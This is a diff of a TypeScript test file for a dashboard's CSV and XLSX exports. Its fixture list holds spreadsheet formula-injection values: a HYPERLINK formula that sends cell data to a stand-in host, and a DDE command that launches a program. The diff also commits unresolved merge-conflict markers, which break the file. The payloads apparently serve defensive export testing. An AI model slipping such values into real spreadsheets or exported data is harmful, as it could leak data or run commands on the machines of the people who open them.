@@ -1,4 +1,5 @@
 import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
+<<<<<<< HEAD:test/app/exports.test.ts
 import {
   DASHBOARD_NAMES,
   type DashboardName,
@@ -9,13 +10,20 @@ import { parseCsv, withoutGuards } from '../support/http/csv.ts'
 import { askForFile } from '../support/http/file-request.ts'
 import type { Claims } from '../support/http/tokens.ts'
 import { readWorkbook } from '../support/http/xlsx.ts'
+=======
+import { openApp, type TestApp } from '../../support/app/test-app.ts'
+import { parseCsv, withoutGuards } from '../../support/http/csv.ts'
+import { askForFile } from '../../support/http/file-request.ts'
+import type { Claims } from '../../support/http/tokens.ts'
+import { readWorkbook } from '../../support/http/xlsx.ts'
+>>>>>>> d3b7f6c8f6ee3bf45067896df79b3d31a8c65d99:test/app/export/exports.test.ts
 
 type Dashboard = DashboardName
 const DASHBOARDS = DASHBOARD_NAMES
 const tablesOf = (dashboard: Dashboard) => Object.keys(DEFINITIONS[dashboard].data.properties)
 const mainTableOf = (dashboard: Dashboard) => DEFINITIONS[dashboard].mainTable
 
-/** What a producer may call its things. */
+/** Names that a producer may use. */
 const NAMES = [
   '=HYPERLINK("http://x.test/?"&A1,"Click")',
   "=cmd|' /C calc'!A0",
@@ -57,7 +65,7 @@ function valuesOf(records: string[][], like: Value[][]): Value[][] {
   )
 }
 
-/** What a spreadsheet makes of a day or an instant in UTC: days since 30 December 1899. */
+/** A day or an instant in UTC as a spreadsheet stores it: days since 30 December 1899. */
 function dated(value: Value): Value {
   const isDate = typeof value === 'string' && /^\d{4}-\d\d-\d\d(T[\d:.]+Z)?$/.test(value)
   return isDate ? (Date.parse(value) - Date.UTC(1899, 11, 30)) / 86_400_000 : value
